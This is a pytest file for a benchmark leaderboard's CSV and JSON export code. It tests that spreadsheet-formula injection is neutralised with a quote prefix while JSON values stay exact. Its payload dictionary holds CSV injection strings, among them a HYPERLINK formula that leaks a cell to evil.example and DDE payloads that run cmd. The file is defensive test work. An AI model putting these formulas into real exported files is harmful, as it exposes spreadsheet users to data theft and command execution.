"""Board and submission CSVs neutralise lab text that a spreadsheet would run as a formula
(OWASP CSV injection), while the JSON keeps it exact and numbers stay numbers. The released
results matrix never alters an answer: each is published as a JSON string literal, a cell
that starts with a quote (text to any spreadsheet) and that json.loads reads back exactly."""

from __future__ import annotations

import csv
import io

import orjson
import pytest

from builder.render.data import board_files, to_csv
from hostile.support import BETA, edit_manifest, run, set_field

pytestmark = pytest.mark.slow  # builds a released site

PAYLOADS = {
    "equals-hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus-dde": "+cmd|' /C calc'!A0",
    "minus-formula": "-2+3+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "leading-space-equals": " =1+1",
    "full-width-equals": "＝1+1",
}


def _csv(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode())))


@pytest.mark.parametrize("name", PAYLOADS)
@pytest.mark.parametrize(
    "field,column",
    [("model.name", "model"), ("model.family", "family"), ("judge", "judge"), ("config.reasoning_effort", "reasoning_effort")],
)
def test_formula_text_is_neutralised_in_csv_and_exact_in_json(inst, name: str, field: str, column: str) -> None:
    payload = PAYLOADS[name]
    edit_manifest(inst.bundles[BETA], set_field(field, payload), inst.lab_keys["beta"])
    report = run(inst)
    if report.rejections:  # a payload display cleaning refuses (e.g. a leading space) is also safe
        assert [r.reason for r in report.rejections] == ["bad-display-name"]
        return
    (state,) = report.benchmarks
    _, files = board_files(state)
    subs = {r["submission"]: r for r in _csv(files["soohak/submissions.csv"])}
    assert subs[BETA][column] == "'" + payload
    assert orjson.loads(files["soohak/submissions.json"])["rows"][1][column] == payload  # JSON exact
    if column == "model":
        for path, data in files.items():
            if path.endswith(".csv") and path != "soohak/submissions.csv":
                for row in _csv(data):
                    if row.get("submission") == BETA:
                        assert row["model"] == "'" + payload, path
    for path, data in files.items():
        if path.endswith(".csv"):
            for row in _csv(data):
                for value in row.values():
                    if _is_number(value):
                        continue  # a negative number (a difference's interval) is a numeric cell, not a formula
                    assert not (value or "").lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝")), (path, value)


def _is_number(value: str | None) -> bool:
    try:
        float(value or "")
    except ValueError:
        return False
    return True


def test_negative_numbers_stay_numeric_cells() -> None:
    data = to_csv(["gain", "label", "n"], [{"gain": -0.25, "label": "-0.25", "n": -3}, {"gain": None, "label": "ok", "n": 0}])
    assert data.decode().splitlines() == ["gain,label,n", "-0.25,'-0.25,-3", ",ok,0"]


def test_released_matrix_publishes_answers_exactly_and_never_as_formulas(tmp_path) -> None:
    from builder.pipeline.build import build
    from builder.release.admin import flip, sign_statement
    from builder.release.statement import Publish, Scope
    from tests.factory import NOW, make_instance, results_for
    from tests.release.support import AFTER, T, distinct_items

    inst = make_instance(tmp_path / "inst", items=distinct_items())
    graded = [it for it in inst.items if it["answer_type"] == "integer"]
    payloads = [*PAYLOADS.values(), "-4", "'quoted", '"double"', "tab\tinside"]
    rows = results_for(inst.items, {it["id"]: [True, True, True] for it in inst.items})  # the lab calls every answer right
    sent: dict[tuple[str, int], str] = {}
    for k, r in enumerate(r for r in rows if r["item"] in {it["id"] for it in graded}):
        if k < len(payloads):
            r["answer"] = payloads[k]
            sent[(r["item"], r["sample"])] = payloads[k]
    assert len(sent) == len(payloads)
    inst.add_submission("acme", "run-1", rows)
    flip(inst.root, "soohak", T, Scope(), Publish(), NOW, name="r1")
    for m in ("m1", "m2"):
        sign_statement(inst.root, "soohak", inst.maintainer_keys[m], "r1")
    build(inst.root, tmp_path / "site", identities=[inst.identity], now=AFTER)
    text = (tmp_path / "site/data/soohak/matrix.csv").read_text()
    for row in _csv(text.encode()):
        cell = row["answer"]
        assert cell.startswith(('"', "null")), cell  # a JSON literal: never a formula's first character
        answer = orjson.loads(cell)
        if (row["item"], int(row["sample"])) in sent:
            assert answer == sent[(row["item"], int(row["sample"]))]  # exact: no prefix, no trimming
            # the lab said right, the regrade says wrong, and the board counts the regrade
            assert (row["lab_correct"], row["regrade_correct"], row["graded_by"], row["correct"]) == ("True", "False", "regrade", "False")
        for value in row.values():
            if not _is_number(value):
                assert not (value or "").lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝")), value
